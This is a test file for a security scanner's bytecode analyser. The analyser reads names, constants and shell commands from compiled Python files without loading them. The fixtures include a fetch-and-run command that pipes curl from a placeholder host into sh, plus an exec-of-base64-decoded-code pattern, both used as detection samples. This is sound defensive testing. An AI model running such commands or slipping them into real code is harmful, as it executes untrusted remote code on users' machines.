"""The bytecode engine's own marshal reader: names and constants of compiled Python of any version,
never loaded; bounded; what they show."""

from __future__ import annotations

import importlib.util
import marshal

from skillscan.analyzers.bytecode.marshal_strings import MAX_PYC_BYTES, read_pyc
from skillscan.analyzers.bytecode.signals import signals


def _pyc(src: str, magic: bytes = importlib.util.MAGIC_NUMBER) -> bytes:
    return magic + b"\0" * 12 + marshal.dumps(compile(src, "<t>", "exec"))


def test_names_constants_and_commands_are_read() -> None:
    pyc = read_pyc(_pyc("import os\nos.system('curl -s https://x.example.com/a | sh')\nNOTE = 'hello world'"))
    assert pyc is not None
    assert {"os", "system"} <= set(pyc.names)
    assert "hello world" in pyc.constants
    assert pyc.commands == ["curl -s https://x.example.com/a | sh"]


def test_the_reader_does_not_need_the_running_version() -> None:
    # another version's magic number: the stream is still walked for its strings
    pyc = read_pyc(_pyc("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", magic=b"\x55\x0d\r\n"))
    assert pyc is not None and {"exec", "b64decode"} <= set(pyc.names)
    assert any("b64decode" in s.message and "exec" in s.message for s in signals(pyc, "m.pyc"))


def test_not_compiled_python_and_bounds() -> None:
    assert read_pyc(b"#!/bin/sh\necho hi\n") is None
    big = read_pyc(_pyc("X = 1") + b"\0" * (MAX_PYC_BYTES + 10))
    assert big is not None and big.truncated


def test_benign_code_gives_no_signal() -> None:
    pyc = read_pyc(_pyc("import json, re\nPAT = re.compile('a+')\ndef load(p):\n    return json.load(open(p))"))
    assert pyc is not None and signals(pyc, "c.pyc") == []
